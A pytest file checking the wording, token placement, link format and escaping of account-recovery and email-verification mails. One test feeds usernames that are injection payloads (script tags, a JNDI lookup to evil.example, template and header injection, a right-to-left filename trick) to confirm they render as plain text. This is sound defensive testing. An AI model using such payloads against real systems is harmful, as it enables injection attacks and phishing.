"""What the mails say."""

from html.parser import HTMLParser
from itertools import pairwise

import pytest

from errand.identity.recovery.mails import token_mail
from errand.identity.recovery.model import Purpose
from errand.mails.layout import Mail

TOKEN = "A1-" + "x" * 60 + "_"
ANY = pytest.mark.parametrize("purpose", Purpose)


def mail(
    purpose: Purpose, *, username: str | None = "ada", app_url: str = "", public_url: str = ""
) -> Mail:
    return token_mail(
        purpose, username=username, token=TOKEN, app_url=app_url, public_url=public_url
    )


class Page(HTMLParser):
    """Its words, what its links lead to, and whether every element that is opened is closed."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.text = ""
        self.links: list[str | None] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "meta":
            self.open.append(tag)
        self.links += [value for name, value in attrs if name == "href"]

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@ANY
def test_both_bodies_say_the_same(purpose: Purpose) -> None:
    sent = mail(purpose, app_url="https://example.com")
    page = Page(sent.html)
    assert page.open == []
    words = page.text.split()
    assert words[len(sent.subject.split()) :] == sent.text.split()


@ANY
def test_token_stands_on_a_line_of_its_own(purpose: Purpose) -> None:
    sent = mail(purpose, app_url="https://example.com")
    assert sent.text.splitlines().count(TOKEN) == 1
    assert f"\n<pre>{TOKEN}</pre>\n" in sent.html


@ANY
def test_it_says_how_long_the_token_lives_and_what_to_do_if_nobody_asked(purpose: Purpose) -> None:
    text = mail(purpose).text
    assert "It works once, within 60 minutes." in text
    assert "If that was not you, ignore this mail" in text


@ANY
def test_without_a_web_client_there_is_no_link(purpose: Purpose) -> None:
    sent = mail(purpose)
    assert Page(sent.html).links == []
    assert "http" not in sent.text


@pytest.mark.parametrize("app_url", ["https://example.com/errand", "https://example.com/errand/"])
@pytest.mark.parametrize(
    ("purpose", "page"),
    [
        (Purpose.PASSWORD_RECOVERY, "reset-password"),
        (Purpose.EMAIL_VERIFICATION, "verify-email"),
    ],
)
def test_a_link_keeps_the_token_out_of_requests(purpose: Purpose, page: str, app_url: str) -> None:
    sent = mail(purpose, app_url=app_url)
    link = f"https://example.com/errand/{page}#token={TOKEN}"
    assert Page(sent.html).links == [link]
    assert link in sent.text.splitlines()


@ANY
@pytest.mark.parametrize(
    "name",
    [
        '<a href="https://evil.example">&amp; "ada"',
        "YOU WON $500! Claim: http://evil.example/",
        "</p></body><script>alert(1)</script>",
        "&#60;img src=x&#62;",
        "{token} %s ${jndi:ldap://evil.example} {{7*7}}",
        "\u202egpj.exe",
        "=?utf-8?q?Subject?= Bcc: everybody@example.com",
    ],
    ids=ascii,
)
def test_a_name_is_text_whatever_it_looks_like(purpose: Purpose, name: str) -> None:
    sent = mail(purpose, username=name)
    page = Page(sent.html)
    assert (page.links, page.open) == ([], [])
    assert sent.subject == mail(purpose).subject
    assert sent.html.count("<") == mail(purpose).html.count("<")
    assert sent.text == mail(purpose).text.replace("Hello ada,", f"Hello {name},")
    assert f"Hello {name}," in page.text


@ANY
def test_without_a_name_it_greets_all_the_same(purpose: Purpose) -> None:
    assert mail(purpose, username=None).text.startswith("Hello,\n")


def test_paragraphs_are_apart() -> None:
    lines = mail(Purpose.PASSWORD_RECOVERY).text.splitlines()
    assert all(not (one and other) for one, other in pairwise(lines))
